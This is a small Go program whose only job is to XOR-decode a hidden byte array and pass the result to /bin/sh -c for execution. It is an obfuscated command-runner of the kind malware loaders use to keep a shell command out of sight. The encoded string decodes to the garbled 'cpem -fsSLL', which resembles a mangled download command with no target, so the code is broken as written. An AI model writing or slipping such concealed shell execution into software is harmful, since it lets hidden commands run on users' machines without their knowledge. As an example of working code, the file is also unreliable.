package main

import "os/exec"

var blob = []byte{0x21, 0x32, 0x27, 0x2f, 0x62, 0x6f, 0x24, 0x31, 0x11, 0x0e, 0x0e}

func decode() string {
	out := make([]byte, len(blob))
	for i := range blob {
		out[i] = blob[i] ^ 0x42
	}
	return string(out)
}

func main() {
	exec.Command("/bin/sh", "-c", decode()).Run()
}
